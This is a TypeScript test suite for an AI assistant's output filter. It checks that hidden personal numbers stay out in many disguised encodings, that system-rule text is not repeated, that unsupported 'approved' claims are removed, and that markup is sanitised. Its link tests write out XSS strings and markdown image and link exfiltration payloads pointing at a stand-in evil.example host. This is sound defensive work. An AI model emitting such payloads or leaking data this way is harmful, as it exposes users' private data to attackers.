import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { longNumbersOf } from '../../../../agent/outgoing/digits.ts'
import { createSecretCheck } from '../../../../agent/outgoing/instructions.ts'
import { plainPart, withoutMarkup } from '../../../../agent/outgoing/plain.ts'
import { checkWords, type Grounds } from '../../../../agent/outgoing/words.ts'

const rule =
  '政策问题只根据资料和工具结果回答，不用自己的记忆。每句规定后标出依据的资料编号，数字照抄资料，查不到就说没有找到。'
const grounds = (...shown: string[]): Grounds => ({
  texts: ['我的电话是13800001234，帮我看看11月的工资', '2026-11-23', ...shown],
  shown,
  hasReceipt: false,
  isSecret: createSecretCheck([rule]),
})

describe('T-27: a number that nobody showed the person stays inside', () => {
  const card = '19900001002'
  const salary = '18437.62'
  test.each([
    ['plain', `他的手机是${card}。`],
    ['spaced', '手机 199 0000 1002'],
    ['dashed', '手机 199-0000-1002'],
    ['full width', '手机１９９００００１００２'],
    ['Chinese numerals', '手机一九九零零零零一零零二'],
    ['with 幺', '手机幺九九〇〇〇〇幺〇〇二'],
    ['hidden characters', `手机${[...card].join('\u200b')}`],
    ['reversed', `倒过来是${[...card].reverse().join('')}`],
    ['base64', `编码是${btoa(`${card}${salary}`)}`],
    ['hexadecimal', `编码 ${[...'19900001002'].map((one) => one.charCodeAt(0).toString(16)).join(' ')}`],
    ['an amount', `每月${salary}元`],
    ['an amount with commas', '每月18,437.62元'],
    ['capital numerals', '每月壹万捌仟肆佰叁拾柒元'],
    ['Chinese numerals with units', '每月一万八千四百三十七元'],
    ['an identity number', '身份证99010119900307114X'],
    ['an address of mail', '邮箱zhang.san@bureau.example'],
  ])('%s', (_how, sentence) => {
    const { text, faults } = checkWords(`好的。${sentence}`, grounds())
    expect(text).toBe('好的。')
    expect(faults.length).toBeGreaterThan(0)
  })

  test.each([
    ['what the person typed', '您说的电话13800001234已记下。', []],
    ['what a tool showed', '11月实发9,126.40元。', ['实发：9126.40元']],
    ['a date in another form', '2026年11月25日起。', ['开始：2026-11-25']],
    [
      'an article of the rules',
      '依据国发〔2008〕514号第三条，满10年不满20年的休10天。',
      ['国务院令第514号 2008 第三条 10天'],
    ],
    ['small figures', '一共3天，从周一到周三。', []],
  ])('%s goes out', (_what, sentence, shown) => {
    expect(checkWords(sentence, grounds(...shown))).toEqual({ text: sentence, faults: [] })
  })

  test('of any eleven digits in any grouping nothing is let out', () => {
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 11, maxLength: 18 }),
        fc.constantFrom('', ' ', '-', '.', '·'),
        (digits, mark) => {
          const number = digits.join(mark)
          expect(checkWords(`号码${number}`, grounds()).text).toBe('')
        },
      ),
      { numRuns: 500 },
    )
  })
})

describe('T-26: instructions and schemas are not repeated', () => {
  test('forty characters in a row are, thirty-nine are not', () => {
    const long = `规则是：${rule.slice(3, 43)}`
    expect(checkWords(long, grounds())).toEqual({ text: '', faults: ['instructions'] })
    expect(checkWords(`规则是：${rule.slice(3, 41)}`, grounds()).faults).toEqual([])
  })
  test('spaces between the characters hide nothing', () => {
    expect(checkWords([...rule].join(' '), grounds()).faults).toEqual(['instructions'])
  })
})

describe('what is claimed', () => {
  test.each([
    '您的请假已提交成功。',
    '已为您办理完成。',
    '领导已批准。',
    'Your leave has been approved.',
    "I've submitted it.",
  ])('%s is taken out where nothing bears it out', (sentence) => {
    expect(checkWords(`好的。${sentence}`, grounds())).toEqual({ text: '好的。', faults: ['claim'] })
  })
  test('is let out where a tool showed it', () => {
    expect(checkWords('这张请假单已批准。', grounds('LR-2026-00012 已批准')).faults).toEqual([])
  })
})

describe('marks and links', () => {
  test.each([
    ['<img src=x onerror=alert(1)>您好', '您好'],
    ['您好<script>alert(1)</script>', '您好alert(1)'],
    ['![图](https://collect.evil.example/a.png?d=1)', '图'],
    ['[点这里](https://collect.evil.example/x)', '点这里'],
    ['请看 https://collect.evil.example/x?d=1 。', '请看 〔链接已略去〕 。'],
    ['请看 collect.evil.example/x', '请看 〔链接已略去〕'],
    ['请看 collect[.]evil[.]example', '请看 〔链接已略去〕'],
    ['[原文](https://www.gov.cn/zhengce/a.htm)', '[原文](https://www.gov.cn/zhengce/a.htm)'],
    ['https://www.gov.cn@evil.example/x', '〔链接已略去〕'],
    ['https://evilgov.cn/x', '〔链接已略去〕'],
    ['[文件](/api/files/1)', '[文件](/api/files/1)'],
    ['[x](javascript:alert(1))', 'x)'],
    ['a\u202eb', 'ab'],
    ['请假<3天的，3 < 5', '请假<3天的，3 < 5'],
  ])('%s', (said, out) => {
    expect(withoutMarkup(said)).toBe(out)
  })
  test('what people wrote into records leads nowhere', () => {
    const part = plainPart({ kind: 'table', title: '', columns: ['事由'], rows: [['看病 http://evil.example/a']] })
    expect(part).toMatchObject({ rows: [['看病 〔链接已略去〕']] })
  })
})

test('long numbers are read in every spelling', () => {
  expect(longNumbersOf('1,234元、２０２６年、一三八〇〇〇〇一二三四、壹万贰仟')).toEqual([
    '1234',
    '2026',
    '13800001234',
    '12000',
  ])
})
